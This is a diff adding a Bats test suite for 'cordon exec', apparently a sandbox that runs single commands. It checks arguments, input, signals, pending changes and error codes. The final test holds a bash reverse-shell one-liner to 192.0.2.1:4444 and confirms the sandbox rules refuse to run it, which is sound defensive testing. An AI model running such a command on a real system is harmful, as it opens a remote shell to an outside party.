@@ -1,0 +1,68 @@
+#!/usr/bin/env bats
+# SPDX-License-Identifier: MIT
+# cordon exec: one command in a box, with its words, its input, its status and its signal as they are.
+load helper
+load workspace
+
+# run_in WAY ARG...: cordon exec in the workspace.
+run_in()
+{
+	local who=${1%%:*} tier=${1#*:}
+	WAY=$1
+	shift
+	status=0
+	(cd "$W" && as "$who" timeout 60 "$CORDON" exec --user --tier "$tier" "$@" <"$IN" >"$T/out" 2>"$T/err") ||
+		status=$?
+}
+
+words() {
+	# shellcheck disable=SC2016
+	run_in "$1" -- sh -c 'pwd; for w; do echo "<$w>"; done; exit 7' - 'a b' "it's" '$HOME' '' '*' $'two\nlines'
+	exits 7
+	out_is "$W"$'\n<a b>\n<it\'s>\n<$HOME>\n<>\n<*>\n<two\nlines>'
+	run_in "$1" --json -- ./run.sh -x
+	exits 0
+	holds 'r["exec"] == "any"' 'r["effects"] == []'
+	untouched
+}
+@test "words, status, the current directory" { every_owner words; }
+
+@test "standard input is passed on, and a signal ends it as it ended the command" {
+	dir user
+	printf 'typed\n' >"$T/in"
+	IN=$T/in run_in user:no-cgroup -- cat
+	out_is typed
+	# shellcheck disable=SC2016
+	run_in user:no-cgroup -- sh -c 'kill -TERM $$'
+	exits 143
+}
+
+@test "changes are pending, and applied where that is asked for" {
+	dir user
+	run_in user:no-cgroup --diff -- touch new
+	exits 0
+	err_has '+ new'
+	untouched
+	run_in user:no-cgroup --apply -- touch new
+	exits 0
+	[ -e "$W/new" ]
+}
+
+@test "wrong usage, a program that is not there, a directory that is too much" {
+	dir user
+	run_in user:no-cgroup
+	exits 125
+	err_has 'no command is given'
+	run_in user:no-cgroup -- no-such-program
+	exits 127
+	W=/tmp run_in user:no-cgroup -- ls
+	exits 125
+	err_has '--whole'
+}
+
+@test "the rules see the command line" {
+	dir user
+	run_in user:no-cgroup --rules "$TOP/rules" -- bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'
+	exits 126
+	err_has 'not run'
+}
